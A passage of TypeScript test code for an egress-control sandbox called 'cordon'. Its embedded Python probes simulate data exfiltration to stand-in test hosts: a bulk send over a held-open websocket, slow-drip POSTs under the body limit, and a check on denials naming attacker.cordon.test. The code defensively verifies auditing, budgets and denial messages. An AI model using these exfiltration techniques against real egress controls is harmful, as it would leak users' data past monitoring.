          pred: (r) => isRequest(r) && r.data.decision === 'allow' && Number(r.data.queryBytes) > 40 && JSON.stringify(r.data.headers ?? []).toLowerCase().includes('x-data'),
        },
        { what: 'allowed request records with the body size', pred: (r) => isRequest(r) && r.data.decision === 'allow' && Number(r.data.bytesUp) >= 100 },
        flowWith('flow records with byte counts', 2, (d) => d.host === 'api.cordon.test' && Number(d.bytesUp) > 0 && Number(d.bytesDown) > 0),
      ],
      legit: (reqs, info) =>
        reqs.some((q) => findCanary(q.url, [info.canary]) !== null) ? null : 'the allowed request did not arrive (the probe proves nothing about the audit trail)',
    }),
  },
  {
    id: 'net.exfil-open-at-exit',
    class: 12,
    title: 'bytes sent on an allowed flow that is still open when the session ends (the server keeps its side open) must still be audited',
    applies: proxied,
    script: (c) =>
      python(c, String.raw`api = f"{N['api']}:{HP}"
ws = [('Upgrade', 'websocket'), ('Connection', 'Upgrade'), ('Sec-WebSocket-Key', 'dGhlIHNhbXBsZSBub25jZQ=='), ('Sec-WebSocket-Version', '13')]
s = dial((synth(N['api']), HP)); s.sendall(req('GET', '/api/ws-hold', api, ws)); time.sleep(0.3)
say('upgrade', s.recv(4096))
payload = (C * 100).encode()[:4000]
s.sendall(b'\x82\x7f' + struct.pack('!Q', len(payload)) + payload); time.sleep(0.3)
s.close()
print(f'{len(payload)} bytes sent after the upgrade; the client closed, the server did not')`),
    leak: judged({
      audit: [flowWith('a net.flow record for the upgraded flow with its bytes', 1, (d) => d.host === 'api.cordon.test' && d.protocol === 'websocket' && Number(d.bytesUp) >= 4000)],
    }),
  },
  {
    id: 'net.exfil-allowed-channel',
    class: 12,
    title: 'exfiltrate through what the allowed API grants (query, headers, a body under the limit)',
    applies: (c) =>
      proxied(c) ??
      'not applicable: allowed by policy - GET/POST under /api/ on api.cordon.test may carry any data in the query, headers or a body up to 1 KiB; ' +
        'cordon audits every such request (net.exfil-audit-trail) but cannot tell exfiltration from use',
    script: () => 'true',
  },
  {
    id: 'net.exfil-slow-drip',
    class: 12,
    title: 'slow drip through an allowed API, every request under its body limit, until the egress budget trips',
    applies: (c) => {
      const p = proxied(c);
      if (p) return p;
      const b = c.fixture.budget;
      if (!b || (b.bytesUp === null && b.requests === null)) {
        return 'not applicable: this policy sets no network.budget (bytesUp or requests): a drip of requests each under maxBodyBytes is bounded only by what the rules allow, and visible only in the audit log';
      }
      const { requests } = dripPlan(b);
      return requests > DRIP_MAX_REQUESTS ? `not applicable: the budget is larger than the selftest drips (${DRIP_MAX_REQUESTS} requests of ${DRIP_BODY} bytes)` : null;
    },
    script: (c) => {
      const { requests } = dripPlan(c.fixture.budget!);
      return python(c, String.raw`api = N['api']
sent = ok = refused = 0
first_refusal = ''
for i in range(${requests}):
    body = (f'{i:05d}:' + 'x' * ${DRIP_BODY}).encode()[:${DRIP_BODY}]
    r = xchg(PX, req('POST', f'http://{api}:{HP}/api/drip?i={i}', f'{api}:{HP}', [('Connection', 'close')], body))
    sent += 1
    head = line(r)
    if ' 200 ' in head: ok += 1
    elif ' 403 ' in head:
        refused += 1
        if not first_refusal: first_refusal = r.decode('latin1', 'replace') if isinstance(r, bytes) else r
        if refused >= 5: break
print(f'drip: {sent} sent, {ok} accepted, {refused} refused')
print(first_refusal.split('\r\n\r\n', 1)[-1].strip())`);
    },
    leak: (run, c) => {
      const b = c.fixture.budget!;
      return judged({
        audit: [{ what: 'a net.budget record (the budget tripped)', pred: (r) => r.type === 'net.budget' }],
        output: (out) => (/egress budget is spent/.test(out) ? null : 'the drip was never refused with the budget named (did it trip?)'),
        legit: (reqs) => {
          const got = reqs.filter((q) => q.url.startsWith('/api/drip'));
          // Bodies alone (heads count against the budget too): at most the budget plus the one body in flight when it ran out.
          const bytes = got.reduce((n, q) => n + q.body.length, 0);
          if (b.requests !== null && got.length > b.requests) return `the API received ${got.length} drip requests, over the request budget of ${b.requests}`;
          if (b.bytesUp !== null && bytes > b.bytesUp + DRIP_BODY) return `the API received ${bytes} bytes of drip bodies, over the byte budget of ${b.bytesUp}`;
          return got.length > 0 ? null : 'no drip request arrived (the probe proves nothing)';
        },
      })(run, c);
    },
  },
];

/**
 * Every script starts with a marker line, so the judgement can tell that the
 * session it reads is this probe's (a session cordon failed to start would
 * otherwise be judged on the previous probe's records).
 */
const marker = (id: string) => `# cordon selftest probe ${id}`;

function startedProblem(id: string, run: ProbeRun, c: ProbeContext): string | null {
  if (run.sessionId === null) return `cordon started no session (status ${run.status}): ${run.stderr.trim().split('\n')[0] ?? ''}`;
  const store = AuditStore.open(c.fixture.stateDir);
  try {
    const start = [...store.records({ session: run.sessionId, type: 'session.start' })][0];
    const argv = (start?.data as { argv?: unknown } | undefined)?.argv;
    if (Array.isArray(argv) && argv.some((a) => typeof a === 'string' && a.startsWith(marker(id)))) return null;
  } finally {
    store.close();
  }
  return `cordon did not start this probe's session (status ${run.status}): ${run.stderr.trim().split('\n')[0] ?? ''}`;
}

export const NETWORK_PROBES: Probe[] = PROBES.map((p) => ({
  ...p,
  script: (c: ProbeContext) => `${marker(p.id)}\n${p.script(c)}`,
  leak: (run: ProbeRun, c: ProbeContext) => (run.status === 125 ? null : startedProblem(p.id, run, c)) ?? p.leak?.(run, c) ?? null,
}));

/** What the agent sees when denied: short, names the target, says nothing about the policy's internals. */
function denialProblem(out: string, info: AttackerInfo): string | null {
  const m = /--- DENIAL-BEGIN\n([\s\S]*?)--- DENIAL-END/.exec(out);
  if (!m) return 'the denial was not captured';
  const shown = m[1]!;
  const split = shown.search(/\r?\n\r?\n/);
  const head = split >= 0 ? shown.slice(0, split) : shown;
  const body = split >= 0 ? shown.slice(split).replace(/^\r?\n\r?\n/, '') : '';
  if (!/^HTTP\/1\.1 403 /.test(head)) return `the denial is not a 403: ${head.split('\n')[0]}`;
  if (!/x-cordon-blocked:/i.test(head)) return 'the denial carries no X-Cordon-Blocked header';
  if (body.length > 600) return `the denial body is ${body.length} bytes (should be short)`;
  if (!body.includes(`attacker.cordon.test:${info.ports.http}/upload`)) return 'the denial does not name the blocked target';
  for (const secret of [info.attackerIp, info.legitIp, info.names.legit, info.names.api, info.caFile, '198.19.', info.canary]) {
    if (body.includes(secret)) return `the denial reveals "${secret}"`;
  }
  if (/\brule\s*#?\d|\brules?\[\d/i.test(body)) return 'the denial names a rule of the policy';
  return null;
}
